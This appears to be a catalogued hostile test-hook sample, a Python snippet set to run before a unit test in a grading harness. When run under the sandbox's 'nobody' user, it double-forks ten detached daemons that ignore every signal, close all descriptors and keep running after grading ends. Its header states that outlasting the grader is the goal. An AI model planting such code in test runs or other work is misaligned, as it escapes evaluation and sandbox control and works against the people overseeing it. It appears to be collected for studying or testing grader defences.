# base: garbage
# Daemons by double fork and setsid, that ignore every signal and close everything.
# class: processes
# gains: something that goes on when the grading is over
# ends: graded | timeout
# safe_in_process: no

# %% before test_vectorized_relu
import os
import signal
import time

for _ in range(10 if os.getuid() == 65534 else 0):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in range(1, signal.NSIG):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 256)
        time.sleep(600)
        os._exit(0)
